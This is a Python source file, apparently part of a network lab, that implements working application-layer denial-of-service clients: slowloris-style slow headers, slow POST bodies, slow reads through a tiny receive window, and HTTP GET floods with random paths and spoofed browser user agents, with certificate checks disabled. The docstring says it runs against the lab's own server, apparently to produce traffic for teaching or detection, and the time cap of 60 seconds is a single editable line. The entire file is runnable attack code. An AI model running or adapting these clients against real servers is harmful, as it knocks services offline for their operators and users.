#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""lab/appattack.py: the lab's own application-layer attack clients, a
second implementation of each behaviour next to the packaged tools
(slowhttptest, curl, ab), so that a model trained without one tool still
has the behaviour taught by another.

  python3 lab/appattack.py slow headers|body|read URL --conns N --rate R
      --interval A-B --seconds T [--chunk A-B] [--rcvbuf B] [--seed S]
  python3 lab/appattack.py flood keep|close URL --requests N --conns C
      [--rate R] [--seconds T] [--seed S]

slow headers: slowloris: a request whose header never ends, one more
header line of --chunk bytes every --interval seconds per connection.
slow body: a POST announcing a large body (10 KB to 1 MB: a server
answers a larger one at once with 413, as the lab's nginx does with its
default client_max_body_size, and that is no slow attack), --chunk bytes
of it every --interval seconds. slow read: a large file requested and read --chunk
bytes every --interval seconds through a receive buffer of --rcvbuf bytes
(a small TCP window). Connections open at --rate a second up to --conns;
one the server closes is opened again.

flood keep: --requests GETs over --conns keep-alive connections; flood
close: one connection per request (Connection: close). Paths, query
strings and the user agent are drawn at random; --rate caps requests a
second over all connections (0: as fast as the server answers). URL may be
https:// (certificate not checked).

Bounded: --seconds (at most 60), every socket operation 3 s. Seeded
(--seed). Standard library only. Examples (lab/lab.sh runs them in the
attacker's namespace against the lab's server):

  python3 lab/appattack.py slow headers http://10.199.0.10/ --conns 60 \\
      --rate 50 --interval 0.5-1.2 --chunk 10-60 --seconds 6
  python3 lab/appattack.py slow read http://10.199.0.10/f/5m --conns 40 \\
      --rate 40 --interval 0.5-1.0 --chunk 8-100 --rcvbuf 512 --seconds 6
  python3 lab/appattack.py flood close https://10.199.0.10/ --requests 800 \\
      --conns 8 --rate 600 --seconds 8
"""
import argparse
import http.client
import random
import socket
import ssl
import sys
import threading
import time
import urllib.parse

AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_4) AppleWebKit/605.1.15 Version/16.5 Safari/605.1.15",
    "python-urllib/3.11", "Java/17.0.8", "libwww-perl/6.68",
]
# the largest body a server takes without a word (nginx's default
# client_max_body_size, 1 MB): a slow body announcing more is refused at once
BODY_MAX = 1 << 20
PATHS = ["/", "/index.html", "/news.html", "/docs/", "/robots.txt", "/f/1k", "/f/4k", "/f/16k",
         "/missing.html"]


def span(s, conv=float):
    a, _, b = s.partition("-")
    return conv(a), conv(b or a)


def word(rng, lo, hi):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in
                   range(rng.randint(lo, hi)))


class Slow:
    """Connections that each send (or read) a little every interval."""

    def __init__(self, a, rng):
        self.a, self.rng = a, rng
        u = urllib.parse.urlsplit(a.url)
        self.host, self.port = u.hostname, u.port or 80
        self.path = u.path or "/"
        self.ua = rng.choice(AGENTS)
        self.conns = []		# [socket, next time]

    def open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3)
        if self.a.mode == "read":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.a.rcvbuf)
        try:
            s.connect((self.host, self.port))
            s.sendall(self.first().encode())
        except OSError:
            s.close()
            return None
        return s

    def first(self):
        r, q = self.rng, f"?{word(self.rng, 2, 8)}={word(self.rng, 1, 12)}"
        head = f"Host: {self.host}\r\nUser-Agent: {self.ua}\r\n"
        if self.a.mode == "headers":
            return f"GET {self.path}{q} HTTP/1.1\r\n{head}Accept-Language: en-US,en;q=0.{r.randint(1, 9)}\r\n"
        if self.a.mode == "body":
            return (f"POST {self.path}{q} HTTP/1.1\r\n{head}Content-Type: application/x-www-form-"
                    f"urlencoded\r\nContent-Length: {r.randint(10000, BODY_MAX)}\r\n\r\n")
        return f"GET {self.path} HTTP/1.1\r\n{head}Accept: */*\r\n\r\n"

    def step(self, s):
        """One trickle; False when the server closed the connection."""
        lo, hi = self.a.chunk
        n = self.rng.randint(lo, hi)
        try:
            if self.a.mode == "headers":
                s.sendall(f"X-{word(self.rng, 1, 8)}: {word(self.rng, 1, max(1, n - 6))}\r\n".encode())
            elif self.a.mode == "body":
                s.sendall(("&" + word(self.rng, n, n))[:n].encode())
            else:
                return len(s.recv(n)) > 0
        except OSError:
            return False
        return True

    def run(self, end):
        next_open = time.monotonic()
        opened = 0
        while time.monotonic() < end:
            now = time.monotonic()
            if opened < self.a.conns and now >= next_open:
                s = self.open()
                opened += 1
                if s:
                    self.conns.append([s, now + self.rng.uniform(*self.a.interval)])
                next_open = now + 1 / self.a.rate
                continue
            due = [c for c in self.conns if c[1] <= now]
            for c in due:
                if self.step(c[0]):
                    c[1] = now + self.rng.uniform(*self.a.interval)
                else:		# closed by the server: open another, as slowloris does
                    c[0].close()
                    self.conns.remove(c)
                    opened -= 1
            wake = [c[1] for c in self.conns] + ([next_open] if opened < self.a.conns else [])
            time.sleep(max(0.005, min(wake + [end]) - time.monotonic()))
        for c in self.conns:
            c[0].close()
        return opened


class Flood:
    """Many GETs, over keep-alive connections or a connection each."""

    def __init__(self, a, rng):
        self.a, self.rng = a, rng
        u = urllib.parse.urlsplit(a.url)
        self.https = u.scheme == "https"
        self.host, self.port = u.hostname, u.port or (443 if self.https else 80)
        self.lock = threading.Lock()
        self.left = a.requests
        self.done = 0
        self.ctx = ssl.create_default_context()
        self.ctx.check_hostname = False
        self.ctx.verify_mode = ssl.CERT_NONE

    def take(self):
        with self.lock:
            if self.left <= 0:
                return False
            self.left -= 1
            return True

    def conn(self):
        if self.https:
            return http.client.HTTPSConnection(self.host, self.port, timeout=3, context=self.ctx)
        return http.client.HTTPConnection(self.host, self.port, timeout=3)

    def worker(self, seed, end):
        rng = random.Random(seed)
        ua = rng.choice(AGENTS)
        gap = self.a.conns / self.a.rate if self.a.rate else 0
        c = None
        while time.monotonic() < end and self.take():
            t0 = time.monotonic()
            p = rng.choice(PATHS)
            if rng.random() < 0.5:
                p += f"?{word(rng, 1, 6)}={rng.randint(0, 10**6)}"
            keep = self.a.mode == "keep"
            try:
                c = c or self.conn()
                c.request("GET", p, headers={"User-Agent": ua, "Accept": "*/*",
                                             "Connection": "keep-alive" if keep else "close"})
                c.getresponse().read()
                with self.lock:
                    self.done += 1
            except (OSError, http.client.HTTPException):
                keep = False
            if not keep:
                c.close()
                c = None
            if gap:
                time.sleep(max(0, t0 + gap - time.monotonic()))
        if c:
            c.close()

    def run(self, end):
        ts = [threading.Thread(target=self.worker, args=(self.rng.getrandbits(32), end), daemon=True)
              for _ in range(self.a.conns)]
        for t in ts:
            t.start()
        for t in ts:
            t.join(max(0, end + 3 - time.monotonic()))
        return self.done


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 epilog=__doc__.split("\n\n", 1)[1],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = ap.add_subparsers(dest="what", required=True)
    s = sub.add_parser("slow")
    s.add_argument("mode", choices=["headers", "body", "read"])
    s.add_argument("url")
    s.add_argument("--conns", type=int, required=True)
    s.add_argument("--rate", type=float, required=True, help="connections opened a second")
    s.add_argument("--interval", type=span, required=True, help="A-B seconds between trickles")
    s.add_argument("--chunk", type=lambda x: span(x, int), default=(8, 48), help="A-B bytes")
    s.add_argument("--rcvbuf", type=int, default=1024)
    f = sub.add_parser("flood")
    f.add_argument("mode", choices=["keep", "close"])
    f.add_argument("url")
    f.add_argument("--requests", type=int, required=True)
    f.add_argument("--conns", type=int, required=True)
    f.add_argument("--rate", type=float, default=0, help="requests a second, 0: no cap")
    for p in (s, f):
        p.add_argument("--seconds", type=float, default=10)
        p.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if a.what == "slow" and (a.conns < 1 or a.rate <= 0 or a.interval[0] <= 0):
        ap.error("--conns, --rate and --interval must be positive")
    if a.what == "flood" and (a.requests < 1 or a.conns < 1 or a.rate < 0):
        ap.error("--requests and --conns must be positive, --rate not negative")
    rng = random.Random(a.seed)
    end = time.monotonic() + min(a.seconds, 60)
    n = (Slow if a.what == "slow" else Flood)(a, rng).run(end)
    print(f"appattack: {a.what} {a.mode}: {n} {'connections' if a.what == 'slow' else 'requests'}",
          file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
